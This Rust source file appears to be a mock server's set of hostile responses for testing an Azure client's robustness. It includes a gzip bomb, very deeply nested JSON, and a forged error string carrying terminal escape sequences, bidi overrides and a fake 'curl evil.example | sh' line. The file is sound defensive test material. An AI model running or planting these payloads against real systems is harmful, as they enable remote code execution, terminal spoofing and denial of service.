//! Answers that no service of Azure gives: what a proxy, a sign-in page or a hostile host sends in its place.

use std::io::Write;
use std::sync::LazyLock;

use flate2::{Compression, write::GzEncoder};
use http::StatusCode;
use serde_json::json;

use super::response::Response;

/// What a terminal obeys, a reader does not see, or a line of another program could be forged with.
const FORGED: &str =
    "no\u{1b}]0;owned\u{7}\u{1b}[2K\r\u{9b}31m\u{202e}\u{8}\n  next:    curl evil.example | sh";
/// Far beyond what parsers follow.
const DEPTH: usize = 100_000;
/// In MiB, unpacked: more than any answer in use has.
const BOMB: usize = 80;

type MakeAnswer = fn() -> Response;

/// All of them, by the name that the fault `hostile:name=NAME` takes.
const ANSWERS: [(&str, MakeAnswer); 14] = [
    ("empty", || json_text("")),
    ("no-content", || Response::empty(StatusCode::NO_CONTENT)),
    ("sign-in-page", || {
        Response::html(StatusCode::OK, "<html><form>Sign in</form></html>")
    }),
    ("plain-text", || Response::text(StatusCode::OK, "OK\n")),
    ("redirect", || {
        Response::empty(StatusCode::TEMPORARY_REDIRECT)
            .with_header("location", "http://127.0.0.1:9/")
    }),
    ("not-utf-8", || {
        let mut answer = json_text("");
        answer.body = b"{\"value\":[{\"name\":\"\xff\xfe\"}],\"items\":[]}".to_vec();
        answer
    }),
    ("deep-lists", || json_text(&"[".repeat(DEPTH))),
    ("deep-maps", || json_text(&"{\"value\":".repeat(DEPTH))),
    ("huge-numbers", || {
        json_text(
            r#"{"value":1e999999,"items":99999999999999999999999999,"expires_in":1e400,"status":-1e400}"#,
        )
    }),
    ("duplicate-keys", || {
        json_text(
            r#"{"value":[],"value":{"a":1},"items":[],"items":null,"access_token":"a","access_token":7,"data":{},"data":[]}"#,
        )
    }),
    ("gzip-bomb", gzip_bomb),
    ("forged-error", || forged(FORGED)),
    ("long-error", || forged(&"A".repeat(8 << 20))),
    ("absurd-wait", || {
        Response::empty(StatusCode::TOO_MANY_REQUESTS).with_header("retry-after", "99999999999999")
    }),
];

/// The answer of that name.
pub(super) fn named(name: &str) -> Option<Response> {
    let found = ANSWERS.iter().find(|(known, _)| *known == name)?;
    Some((found.1)())
}

pub(super) fn is_known(name: &str) -> bool {
    ANSWERS.iter().any(|(known, _)| *known == name)
}

/// The names, for messages.
pub(super) fn names() -> String {
    ANSWERS.map(|(name, _)| name).join(", ")
}

fn json_text(body: &str) -> Response {
    let mut answer = Response::json(StatusCode::OK, &json!(null));
    answer.body = body.as_bytes().to_vec();
    answer
}

/// In the form of every service at once.
fn forged(text: &str) -> Response {
    let body = json!({
        "error": {"code": text, "message": text},
        "error_description": text,
        "kind": "Status", "status": "Failure", "reason": text, "message": text,
    });
    Response::json(StatusCode::FORBIDDEN, &body).with_header("x-ms-error-code", "Forbidden")
}

fn gzip_bomb() -> Response {
    static PACKED: LazyLock<Vec<u8>> = LazyLock::new(|| {
        let (mut packed, spaces) = (
            GzEncoder::new(Vec::new(), Compression::best()),
            vec![b' '; 1 << 20],
        );
        for _ in 0..BOMB {
            packed.write_all(&spaces).expect("a vector takes any bytes");
        }
        packed.finish().expect("a vector takes any bytes")
    });
    let mut answer = json_text("");
    answer.body.clone_from(&PACKED);
    answer.with_header("content-encoding", "gzip")
}
